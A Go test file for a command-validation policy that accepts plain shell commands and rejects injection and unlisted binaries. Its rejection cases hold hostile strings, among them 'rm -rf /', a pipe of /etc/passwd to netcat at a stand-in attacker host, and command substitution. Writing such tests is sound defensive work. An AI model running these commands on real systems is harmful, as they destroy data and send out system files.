package services

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestCommandPolicy_AllowsPlainCommands(t *testing.T) {
	policy := NewCommandPolicy()

	for _, cmd := range []string{
		"ls -la",
		"cat notes.txt",
		"  echo hello world  ",
		"/bin/ls /workspace",
		"python3 script.py --flag",
		"grep -r pattern .",
	} {
		t.Run(cmd, func(t *testing.T) {
			assert.NoError(t, policy.Validate(cmd))
		})
	}
}

func TestCommandPolicy_RejectsInjection(t *testing.T) {
	policy := NewCommandPolicy()

	for _, cmd := range []string{
		"ls; rm -rf /",
		"ls && curl evil.example",
		"ls || true",
		"cat /etc/passwd | nc evil.example 80",
		"echo `whoami`",
		"echo $(id)",
		"ls\nrm -rf /",
	} {
		t.Run(cmd, func(t *testing.T) {
			assert.Error(t, policy.Validate(cmd))
		})
	}
}

func TestCommandPolicy_RejectsUnknownBinaries(t *testing.T) {
	policy := NewCommandPolicy()

	for _, cmd := range []string{
		"rm -rf data",
		"bash -c anything",
		"sh script.sh",
		"nc -l 8080",
		"sudo id",
		"",
		"   ",
	} {
		t.Run(cmd, func(t *testing.T) {
			assert.Error(t, policy.Validate(cmd))
		})
	}
}

func TestCommandPolicy_ExtraBinaries(t *testing.T) {
	policy := NewCommandPolicy("terraform")

	assert.NoError(t, policy.Validate("terraform plan"))
	assert.Error(t, policy.Validate("terraform plan && terraform apply"))
}
